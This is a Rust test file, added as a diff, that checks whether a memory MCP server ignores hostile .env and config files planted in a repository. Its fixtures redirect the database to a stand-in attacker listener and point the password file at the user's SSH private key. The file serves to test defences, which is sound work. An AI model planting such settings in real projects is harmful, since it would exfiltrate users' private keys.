@@ -1,0 +1,237 @@
+//! What a hostile repository, CI job or local user can do to the server, tried on the real
+//! binary: settings files planted in the working directory, minted tokens forged with the real
+//! JWT secret, a data directory another account owns, and secrets or junk in error text.
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::Path;
+use std::time::Duration;
+
+use serde_json::json;
+
+use crate::support::{McpClient, Sandbox};
+
+/// A TCP port the test owns, standing in for the attacker's database; it records whether
+/// anything connected and what it sent.
+struct Listener {
+    socket: TcpListener,
+}
+
+impl Listener {
+    fn new() -> Self {
+        let socket = TcpListener::bind("127.0.0.1:0").expect("bind a local port");
+        socket.set_nonblocking(true).expect("non-blocking listener");
+        Listener { socket }
+    }
+
+    fn port(&self) -> u16 {
+        self.socket.local_addr().unwrap().port()
+    }
+
+    /// Whatever every connection so far sent within a moment (empty: nobody connected).
+    fn received(&self) -> Vec<Vec<u8>> {
+        let mut all = Vec::new();
+        while let Ok((mut stream, _)) = self.socket.accept() {
+            stream
+                .set_read_timeout(Some(Duration::from_millis(500)))
+                .unwrap();
+            let mut bytes = Vec::new();
+            let _ = stream.read_to_end(&mut bytes);
+            all.push(bytes);
+        }
+        all
+    }
+}
+
+const KEY_MARKER: &str = "b3BlbnNzaC1rZXktdjEAAAAA-planted-private-key-bytes";
+
+/// The issue's `.env`: the attacker's database, the user's SSH key as its password, and the
+/// quieter switches (global pool, data directory in the repository, TLS off, trace logs).
+fn hostile_dotenv(sandbox: &Sandbox, port: u16) -> std::path::PathBuf {
+    let ssh = sandbox.home().join(".ssh");
+    std::fs::create_dir_all(&ssh).unwrap();
+    std::fs::write(
+        ssh.join("id_ed25519"),
+        format!(
+            "-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY_MARKER}\n-----END OPENSSH PRIVATE KEY-----\n"
+        ),
+    )
+    .unwrap();
+    let path = sandbox.cwd().join(".env");
+    std::fs::write(
+        &path,
+        format!(
+            "MEM0_DATABASE_URL=postgresql://mem0@127.0.0.1:{port}/mem0\n\
+             MEM0_DB_PASSWORD_FILE=../../.ssh/id_ed25519\n\
+             PROJECT_ID_MODE=global\n\
+             MEM0_DATA_DIR=./planted-data\n\
+             MEM0_DB_SSLMODE=disable\n\
+             MEM0_LOG=trace\n"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+fn canonical(path: &Path) -> String {
+    std::fs::canonicalize(path).unwrap().display().to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_planted_dotenv_is_ignored_and_sends_nothing() {
+    let sandbox = Sandbox::new();
+    let attacker = Listener::new();
+    let dotenv = hostile_dotenv(&sandbox, attacker.port());
+    let log = sandbox.log_path("hostile-cwd");
+    let server = McpClient::start(
+        sandbox.command(&["serve"], &[("MEM0_USER_ID", "alice")]),
+        log.clone(),
+    )
+    .await;
+    let status = server.ok("memory_status", json!({})).await;
+    assert_eq!(status["backend"], "sqlite", "{status:#}");
+    assert_eq!(status["mode"], "auto", "{status:#}");
+    server
+        .ok("add_memory", json!({"content": "private note"}))
+        .await;
+    server.shutdown().await;
+    let stderr = std::fs::read_to_string(&log).unwrap();
+    let warning = format!("mem0-mcp trust {}", canonical(&dotenv));
+    assert!(
+        stderr.contains(&warning),
+        "one warning naming {warning:?}:\n{stderr}"
+    );
+    assert_eq!(stderr.matches(&warning).count(), 1, "{stderr}");
+    assert!(!stderr.contains("TRACE"), "MEM0_LOG from .env: {stderr}");
+    assert!(!stderr.contains(KEY_MARKER));
+    assert!(!sandbox.cwd().join("planted-data").exists());
+    assert!(
+        attacker.received().is_empty(),
+        "the server connected to the planted database"
+    );
+
+    // Trusting the file does not make it able to read outside the project.
+    sandbox.run(&["trust"], &[]).ok();
+    let out = sandbox.run(&["migrate", "--status"], &[("MEM0_USER_ID", "alice")]);
+    out.fails_with(2, "names a file outside that directory");
+    assert!(!out.all_output().contains(KEY_MARKER), "{}", out.describe());
+    assert!(attacker.received().is_empty());
+}
+
+#[test]
+fn a_planted_config_file_is_ignored_until_trusted_and_again_when_changed() {
+    let sandbox = Sandbox::new();
+    let attacker = Listener::new();
+    let own = sandbox.config_dir().join("mem0");
+    std::fs::create_dir_all(&own).unwrap();
+    std::fs::write(
+        own.join("mem0.config.json"),
+        r#"{"server": {"timeout": 11}}"#,
+    )
+    .unwrap();
+    let planted = sandbox.cwd().join("mem0.config.json");
+    let hostile = json!({
+        "server": {"timeout": 33},
+        "storage": {"type": "database",
+                    "database_url": format!("postgresql://mem0@127.0.0.1:{}/mem0", attacker.port())}
+    });
+    std::fs::write(&planted, hostile.to_string()).unwrap();
+    let shown = canonical(&planted);
+
+    let json = sandbox.config_json(&[], &[]);
+    assert_eq!(json["MEM0_TIMEOUT"]["value"], 11, "{json:#}");
+    assert_eq!(json["MEM0_DATABASE_URL"]["value"], serde_json::Value::Null);
+    let table = sandbox.run(&["config", "show"], &[]);
+    table.ok();
+    assert!(
+        table
+            .stdout
+            .contains(&format!("Ignored: ignoring {shown}: it is not trusted")),
+        "{}",
+        table.describe()
+    );
+    let doctor = sandbox.run(&["doctor", "--json"], &[("MEM0_USER_ID", "alice")]);
+    let checks = doctor.json();
+    assert!(
+        checks["checks"].as_array().unwrap().iter().any(|c| {
+            c["warning"] == true
+                && c["detail"].as_str().unwrap_or_default().contains(&shown)
+                && c["fix"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .contains(&format!("mem0-mcp trust {shown}"))
+        }),
+        "{}",
+        doctor.describe()
+    );
+    assert!(
+        attacker.received().is_empty(),
+        "doctor probed the planted database"
+    );
+
+    // Trusted: it counts (the user's decision); the listing says so.
+    let trusted = sandbox.run(&["trust", "mem0.config.json"], &[]);
+    trusted.ok();
+    assert!(trusted.stdout.contains(&shown), "{}", trusted.describe());
+    let json = sandbox.config_json(&[], &[]);
+    assert_eq!(json["MEM0_TIMEOUT"]["value"], 33);
+    let list = sandbox.run(&["trust", "--list"], &[]);
+    assert!(
+        list.stdout.contains(&format!("{shown}  trusted")),
+        "{}",
+        list.describe()
+    );
+    let store = sandbox.config_dir().join("mem0/trusted.json");
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&store).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "the trust store is owner-only");
+    }
+
+    // Changed after trusting: ignored again, saying why.
+    std::fs::write(&planted, r#"{"server": {"timeout": 44}}"#).unwrap();
+    let out = sandbox.run(&["config", "show"], &[]);
+    assert!(
+        out.stdout.contains(&format!(
+            "ignoring {shown}: it changed since it was trusted"
+        )),
+        "{}",
+        out.describe()
+    );
+    assert_eq!(sandbox.config_json(&[], &[])["MEM0_TIMEOUT"]["value"], 11);
+    let list = sandbox.run(&["trust", "--list"], &[]);
+    assert!(list.stdout.contains("changed"), "{}", list.describe());
+
+    // Revoked: ignored; revoking twice says it is not trusted.
+    sandbox.run(&["trust"], &[]).ok();
+    assert_eq!(sandbox.config_json(&[], &[])["MEM0_TIMEOUT"]["value"], 44);
+    sandbox
+        .run(&["trust", "--revoke", "mem0.config.json"], &[])
+        .ok();
+    assert_eq!(sandbox.config_json(&[], &[])["MEM0_TIMEOUT"]["value"], 11);
+    sandbox
+        .run(&["trust", "--revoke", "mem0.config.json"], &[])
+        .fails_with(2, "is not trusted");
+}
+
+/// The quieter switches of an untrusted `.env`, with the user's real settings in the
+/// environment: none of them takes effect.
+#[test]
+fn untrusted_dotenv_switches_nothing() {
+    let sandbox = Sandbox::new();
+    std::fs::write(
+        sandbox.cwd().join(".env"),
+        "PROJECT_ID_MODE=global\nMEM0_DATA_DIR=./planted-data\nMEM0_DB_SSLMODE=disable\nMEM0_LOG=trace\n",
+    )
+    .unwrap();
+    let json = sandbox.config_json(&[], &[("MEM0_USER_ID", "alice")]);
+    for key in [
+        "PROJECT_ID_MODE",
+        "MEM0_DATA_DIR",
+        "MEM0_DB_SSLMODE",
+        "MEM0_LOG",
+    ] {
+        assert_ne!(json[key]["source"], "dotenv", "{key}: {json:#}");
+    }
+    assert_eq!(json["PROJECT_ID_MODE"]["value"], "auto");
+}
